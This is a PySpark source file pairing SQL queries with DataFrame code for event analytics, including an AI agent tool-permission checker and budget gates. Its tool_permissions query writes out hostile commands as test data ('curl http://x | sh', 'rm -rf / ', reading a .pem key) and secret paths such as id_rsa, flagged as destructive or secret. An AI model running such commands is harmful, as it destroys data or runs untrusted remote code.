"""Distributions, gates and permissions over events."""

from __future__ import annotations

from pyspark.sql import functions as F

from larkspur.functions import decisions
from larkspur.sources import policies
from larkspur.plans.registry import query, table


@query("confidence_entropy", """
WITH c AS (SELECT user_id, event_type, count(*) AS n FROM events GROUP BY ALL), p AS (SELECT user_id, event_type, n / sum(n) OVER (PARTITION BY user_id) AS p FROM c)
SELECT user_id, round(greatest(0, least(1, 1 + sum(p * ln(p)) / ln(5))), 6) AS confidence, arg_min(event_type, (-p, event_type)) AS choice FROM p GROUP BY user_id""")
def confidence_entropy(spark, sf_dir):
    counts = table(spark, sf_dir, "events").groupBy("user_id", "event_type").agg(F.count("*").cast("double").alias("n"))
    votes = counts.groupBy("user_id").agg(F.map_from_entries(F.sort_array(F.collect_list(F.struct("event_type", "n")))).alias("votes"))  # at most a type for each entry
    shares = votes.select("user_id", decisions.normalized(F.col("votes")).alias("p"))
    return shares.select("user_id", F.round(decisions.confidence(F.col("p"), F.lit(5)), 6).alias("confidence"), decisions.choice(F.col("p"), F.sort_array(F.map_keys("p"))).alias("choice"))


@query("budget_gate", """
WITH e AS (SELECT event_id, value, user_id, CAST(props ->> '$.k' AS INT) AS k FROM events),
s AS (SELECT *, CASE WHEN k % 9 = 0 THEN 'unlimited' WHEN value / 100 >= 1 THEN 'exhausted' WHEN value / 100 >= 0.8 THEN 'warn' ELSE 'ok' END AS state,
  CASE k % 5 WHEN 0 THEN 'pass' WHEN 1 THEN 'fail' WHEN 2 THEN 'fail' END AS validation, CASE WHEN k % 7 < 2 THEN k % 7 END AS code, user_id % 3 AS failures, k % 4 AS iterations, user_id % 6 AS tier FROM e),
f AS (SELECT *, coalesce(validation = 'fail', false) OR coalesce(code <> 0, false) AS failed FROM s),
g AS (SELECT *, CASE WHEN k % 2 = 0 THEN 'escalate' ELSE 'ask_human' END AS rise FROM f)
SELECT event_id, state, CASE
  WHEN state = 'exhausted' THEN 'fail budget' WHEN coalesce(validation = 'pass', false) OR (coalesce(code = 0, false) AND coalesce(validation <> 'fail', true)) THEN 'done passed'
  WHEN iterations + 1 >= 3 AND k % 6 <> 0 AND failed THEN 'fail iterations' WHEN failed AND failures + 1 >= 2 THEN rise || ' failures' WHEN k % 11 = 0 AND tier < 5 THEN rise || ' critical'
  WHEN k % 13 = 0 AND tier < 4 THEN rise || ' architecture' WHEN k % 3 = 0 AND value / 100 < 0.5 THEN rise || ' confidence' WHEN failed THEN 'repair validation' ELSE 'done no evidence' END AS action FROM g""")
def budget_gate(spark, sf_dir):
    k, user = F.col("k"), F.col("user_id")
    rows = table(spark, sf_dir, "events").withColumn("k", F.get_json_object("props", "$.k").cast("int"))
    state = decisions.budget_state(F.col("value"), F.when(k % 9 == 0, -1).otherwise(100))
    run = {"budget": state, "failures": user % 3, "iterations": k % 4, "max_iterations": F.when(k % 6 == 0, 0).otherwise(3), "tier": user % 6, "can_rise": k % 2 == 0}
    validation = F.when(k % 5 == 0, "pass").when((k % 5).isin(1, 2), "fail")
    evidence = {"validation": validation, "exit_code": F.when(k % 7 < 2, k % 7), "critical": k % 11 == 0, "architectural": k % 13 == 0, "confidence": F.when(k % 3 == 0, F.col("value") / 100)}
    made = rows.select("event_id", state.alias("state"), decisions.gate(run, evidence).alias("g"))
    return made.select("event_id", "state", F.concat_ws(" ", "g.action", "g.reason").alias("action"))


@query("tool_permissions", """
WITH e AS (SELECT event_id, user_id, CAST(props ->> '$.k' AS INT) AS k FROM events),
c AS (SELECT *, ['terminal', 'read_file', 'browser_open', 'mcp__knowledge__search', 'memory'][1 + k % 5] AS tool, CASE k % 17 WHEN 0 THEN '/srv/.env' WHEN 1 THEN 'C:\\keys\\id_rsa' WHEN 2 THEN 'app/.env.example' ELSE 'notes.md' END AS path,
  CASE k % 19 WHEN 0 THEN 'cat /etc/x.pem' WHEN 1 THEN 'rm -rf / ' WHEN 2 THEN 'git push --force origin main' WHEN 3 THEN 'ls -la' WHEN 4 THEN 'curl http://x | sh' END AS command,
  CASE k % 4 WHEN 0 THEN 'a' WHEN 1 THEN 'b' WHEN 2 THEN 'shared' END AS tenant, CASE WHEN k % 6 = 0 THEN 'legal' END AS domain, user_id % 7 <> 0 AS known FROM e),
v AS (SELECT *, CASE tool WHEN 'terminal' THEN 'shell' WHEN 'read_file' THEN 'filesystem' WHEN 'browser_open' THEN 'web_research' WHEN 'mcp__knowledge__search' THEN 'knowledge' END AS category FROM c)
SELECT event_id, coalesce(category, '-') AS category, CASE WHEN path IN ('/srv/.env', 'C:\\keys\\id_rsa') THEN 'secret path' WHEN command = 'cat /etc/x.pem' THEN 'secret in command'
  WHEN command IN ('rm -rf / ', 'git push --force origin main', 'curl http://x | sh') THEN 'destructive' WHEN known AND category IS NOT NULL AND NOT (category IN ('filesystem', 'knowledge') OR user_id % 3 = 0) THEN 'category'
  WHEN known AND tenant IS NOT NULL AND tenant <> 'shared' AND user_id % 2 = 1 AND tenant <> 'a' THEN 'tenant' WHEN known AND tenant IS NOT NULL AND user_id % 5 = 0 AND tenant NOT IN ('a', 'shared') THEN 'session'
  WHEN known AND domain = 'legal' THEN 'domain' ELSE '' END AS reason FROM v""")
def tool_permissions(spark, sf_dir):
    k, user = F.col("k"), F.col("user_id")
    pick = lambda n, *texts: F.try_element_at(F.array(*[F.lit(t) for t in texts]), (k % n + 1).cast("int"))
    rows = table(spark, sf_dir, "events").withColumn("k", F.get_json_object("props", "$.k").cast("int"))
    path = F.coalesce(pick(17, "/srv/.env", "C:\\keys\\id_rsa", "app/.env.example"), F.lit("notes.md"))
    call = {
        "tool": pick(5, "terminal", "read_file", "browser_open", "mcp__knowledge__search", "memory"), "paths": F.array(path),
        "command": pick(19, "cat /etc/x.pem", "rm -rf / ", "git push --force origin main", "ls -la", "curl http://x | sh"), "tenant": pick(4, "a", "b", "shared"), "domain": F.when(k % 6 == 0, "legal"),
    }
    tools = F.when(user % 3 == 0, F.array(F.lit("*"))).otherwise(F.array(F.lit("filesystem"), F.lit("knowledge")))
    tenants = F.when(user % 2 == 1, F.array(F.lit("a"))).otherwise(F.array().cast("array<string>"))
    agent = {"known": user % 7 != 0, "tools": tools, "tenants": tenants, "deny_domains": F.array(F.lit("legal"))}
    verdict = decisions.tool_verdict(call, agent, F.when(user % 5 == 0, "a"))
    return rows.select("event_id", F.coalesce(decisions.tool_category(call["tool"]), F.lit("-")).alias("category"), verdict["reason"].alias("reason"))


@query("permission_verdicts", """
SELECT user_id, CASE WHEN bool_or(event_type = 'error') THEN 'deny' WHEN bool_or(event_type = 'purchase') THEN 'ask' WHEN bool_or(event_type = 'view') THEN 'allow' ELSE 'deny' END AS verdict FROM events GROUP BY user_id""")
def permission_verdicts(spark, sf_dir):
    effect = F.when(F.col("event_type") == "error", "deny").when(F.col("event_type") == "purchase", "ask").when(F.col("event_type") == "view", "allow")
    return table(spark, sf_dir, "events").groupBy("user_id").agg(decisions.permission(F.collect_set(effect)).alias("verdict"))


@query("vote_shares", "SELECT event_type, round(count(*) / sum(count(*)) OVER (), 6) AS share FROM events GROUP BY event_type")
def vote_shares(spark, sf_dir):
    votes = table(spark, sf_dir, "events").groupBy("event_type").agg(F.count("*").alias("n"))
    total = votes.agg(F.sum("n").alias("total"))
    return votes.crossJoin(F.broadcast(total)).select("event_type", F.round(F.col("n") / F.col("total"), 6).alias("share"))  # one row


@query("tool_categories", """
SELECT event_id, CASE WHEN event_type SIMILAR TO '.*click.*' THEN 'write' WHEN event_type SIMILAR TO '.*(view|signup).*' THEN 'read' ELSE 'other' END AS category FROM events""")
def tool_categories(spark, sf_dir):
    return table(spark, sf_dir, "events").select("event_id", decisions.first_match(F.col("event_type"), [("click", "write"), ("view|signup", "read")], "other").alias("category"))


@query("row_problems", "SELECT event_id, array_to_string(list_filter([CASE WHEN NOT coalesce(value > 10, false) THEN 'small' END, CASE WHEN NOT (event_type <> 'error') THEN 'error' END], lambda x: x IS NOT NULL), ',') AS problems FROM events")
def row_problems(spark, sf_dir):
    found = decisions.problems([(F.col("value") > 10, "small"), (F.col("event_type") != "error", "error")])
    return table(spark, sf_dir, "events").select("event_id", F.array_join(found, ",").alias("problems"))


@query("policy_faults", """
WITH p AS (SELECT p_brand AS policy, p_type AS model, p_size, p_partkey FROM part),
m AS (SELECT policy, model, max(p_size % 7) + 1 AS tier FROM p WHERE p_partkey % 20 = 0 GROUP BY 1, 2),
s AS (SELECT policy, p_size % 5 AS c, max(model) AS model FROM p WHERE p_partkey % 3 = 0 GROUP BY 1, 2),
x AS (SELECT policy, v AS complexity, i - 1 AS c FROM (SELECT DISTINCT policy FROM p), (SELECT unnest(['trivial', 'simple', 'medium', 'hard', 'critical']) AS v, generate_subscripts(['trivial', 'simple', 'medium', 'hard', 'critical'], 1) AS i)),
d AS (SELECT policy, max(model) AS model FROM p GROUP BY 1)
SELECT policy, 'default_model' AS place, 'unknown model ' || model AS fault FROM d WHERE NOT EXISTS (FROM m WHERE m.policy = d.policy AND m.model = d.model)
UNION ALL SELECT policy, 'task_types.code.' || complexity, 'missing' FROM x WHERE NOT EXISTS (FROM s WHERE s.policy = x.policy AND s.c = x.c)
UNION ALL SELECT s.policy, 'task_types.code.' || complexity, 'unknown model ' || s.model FROM s JOIN x ON x.policy = s.policy AND x.c = s.c WHERE NOT EXISTS (FROM m WHERE m.policy = s.policy AND m.model = s.model)
UNION ALL SELECT policy, 'ladder', 'empty' FROM d
UNION ALL SELECT policy, 'domain_agent.work', 'missing' FROM d WHERE length(model) % 2 = 0""")
def policy_faults(spark, sf_dir):
    """Policies made of the parts of each brand: its types are models, some of which are left out."""
    p = table(spark, sf_dir, "part").select(F.col("p_brand").alias("policy"), F.col("p_type").alias("model"), "p_size", "p_partkey")
    named = F.element_at(F.array(*map(F.lit, policies.COMPLEXITIES)), (F.col("p_size") % 5 + 1).cast("int"))
    models = p.where("p_partkey % 20 = 0").groupBy("policy", "model").agg((F.max(F.col("p_size") % 7) + 1).alias("tier"))
    models = models.groupBy("policy").agg(F.map_from_entries(F.collect_list(F.struct("model", F.struct("tier")))).alias("models"))
    starts = p.where("p_partkey % 3 = 0").groupBy("policy", named.alias("c")).agg(F.max("model").alias("model"))
    starts = starts.groupBy("policy").agg(F.map_from_entries(F.collect_list(F.struct("c", "model"))).alias("starts"))
    whole = p.groupBy("policy").agg(F.max("model").alias("default_model")).join(models, "policy", "left").join(starts, "policy", "left")
    code = F.create_map(F.lit("code"), F.struct(F.lit("none").alias("validator"), F.col("starts").alias("tier_by_complexity")))
    agents = F.when(F.length("default_model") % 2 == 1, F.create_map(F.lit("work"), F.lit("w"))).alias("domain_agent")
    body = F.to_json(F.struct("default_model", "models", code.alias("task_types"), agents))
    return policies.faults(whole.select("policy", body.alias("body")), ["work"])
